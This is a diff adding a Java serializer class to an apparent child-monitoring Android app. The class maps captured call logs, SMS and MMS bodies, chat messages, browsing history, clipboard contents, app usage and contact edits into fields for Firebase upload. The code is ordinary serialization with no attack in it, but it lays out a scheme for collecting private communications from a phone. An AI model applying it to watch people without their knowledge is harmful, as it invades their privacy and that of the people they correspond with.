@@ -0,0 +1,125 @@
+package com.childmonitorai.models;
+
+import java.util.HashMap;
+import java.util.Map;
+
+// Hand-registered serializers for the uploaded models. Field names are kept identical to
+// the maps DatabaseHelper used to build (and to Firebase's bean names for the POJOs it
+// used to pass to setValue()), so the stored data does not change shape.
+public final class RecordSerializers {
+    private static final Map<Class<?>, RecordSerializer<?>> serializers = new HashMap<>();
+
+    public static final RecordSerializer<CallData> CALL = (call, out) -> {
+        out.write("date", call.getDate());
+        out.write("duration", call.getCallDuration());
+        out.write("number", call.getPhoneNumber());
+        out.write("type", call.getCallType());
+        out.write("timestamp", call.getTimestamp());
+        out.write("contactName", call.getContactName());
+    };
+
+    public static final RecordSerializer<SMSData> SMS = (sms, out) -> {
+        out.write("type", sms.getType());
+        out.write("address", sms.getAddress());
+        out.write("body", sms.getBody());
+        out.write("timestamp", sms.getTimestamp());
+        out.write("date", sms.getDate());
+        out.write("contactName", sms.getContactName());
+    };
+
+    public static final RecordSerializer<MMSData> MMS = (mms, out) -> {
+        out.write("subject", mms.getSubject());
+        out.write("date", mms.getDate());
+        out.write("senderAddress", mms.getSenderAddress());
+        out.write("content", mms.getContent());
+    };
+
+    public static final RecordSerializer<MessageData> MESSAGE = (message, out) -> {
+        out.write("sender", message.getSender());
+        out.write("receiver", message.getReceiver());
+        out.write("message", message.getMessage());
+        out.write("timestamp", message.getTimestamp());
+        out.write("direction", message.getDirection());
+        out.write("platform", message.getPlatform());
+    };
+
+    public static final RecordSerializer<WebVisitData> WEB_VISIT = (visit, out) -> {
+        out.write("url", visit.getUrl());
+        out.write("title", visit.getTitle());
+        out.write("packageName", visit.getPackageName());
+        out.write("timestamp", visit.getTimestamp());
+        out.write("duration", visit.getDuration());
+        out.write("active", visit.isActive());
+        out.write("databaseKey", visit.getDatabaseKey());
+        out.write("date", visit.getDate());
+    };
+
+    public static final RecordSerializer<ClipboardData> CLIPBOARD = (clipboard, out) -> {
+        out.write("content", clipboard.getContent());
+        out.write("timestamp", clipboard.getTimestamp());
+    };
+
+    public static final RecordSerializer<SessionData> SESSION = (session, out) -> {
+        out.write("package_name", session.getPackageName());
+        out.write("app_name", session.getAppName());
+        out.write("start_time", session.getStartTime());
+        out.write("end_time", session.getEndTime());
+        out.write("duration", session.getDuration());
+        out.write("timed_out", session.isTimedOut());
+    };
+
+    public static final RecordSerializer<AppUsageData> APP_USAGE = (usage, out) -> {
+        out.write("package_name", usage.getPackageName());
+        out.write("app_name", usage.getAppName());
+        out.write("usage_duration", usage.getUsageDuration());
+        out.write("launch_count", usage.getLaunchCount());
+        out.write("last_used", usage.getLastTimeUsed());
+        out.write("first_time_used", usage.getFirstTimeUsed());
+        out.write("total_foreground_time", usage.getTotalForegroundTime());
+        out.write("day_launch_count", usage.getDayLaunchCount());
+        out.write("day_usage_time", usage.getDayUsageTime());
+        out.write("is_system_app", usage.isSystemApp());
+        out.write("category", usage.getCategory());
+        out.write("last_update_time", usage.getLastUpdateTime());
+        out.write("timestamp", usage.getTimestamp());
+    };
+
+    public static final RecordSerializer<ContactData> CONTACT = (contact, out) -> {
+        out.write("name", contact.getName());
+        out.write("phoneNumber", contact.getPhoneNumber());
+        out.write("creationTime", contact.getCreationTime());
+        out.write("lastModifiedTime", contact.getLastModifiedTime());
+        out.write("nameBeforeModification", contact.getNameBeforeModification());
+    };
+
+    static {
+        register(CallData.class, CALL);
+        register(SMSData.class, SMS);
+        register(MMSData.class, MMS);
+        register(MessageData.class, MESSAGE);
+        register(WebVisitData.class, WEB_VISIT);
+        register(ClipboardData.class, CLIPBOARD);
+        register(SessionData.class, SESSION);
+        register(AppUsageData.class, APP_USAGE);
+        register(ContactData.class, CONTACT);
+    }
+
+    private RecordSerializers() {
+    }
+
+    public static synchronized <T> void register(Class<T> type, RecordSerializer<T> serializer) {
+        serializers.put(type, serializer);
+    }
+
+    @SuppressWarnings("unchecked")
+    public static synchronized <T> RecordSerializer<T> forClass(Class<T> type) {
+        return (RecordSerializer<T>) serializers.get(type);
+    }
+
+    // For the few places that still need a standalone value, e.g. a single setValue()
+    public static <T> Map<String, Object> toMap(T record, RecordSerializer<T> serializer) {
+        Map<String, Object> map = new HashMap<>();
+        serializer.serialize(record, map::put);
+        return map;
+    }
+}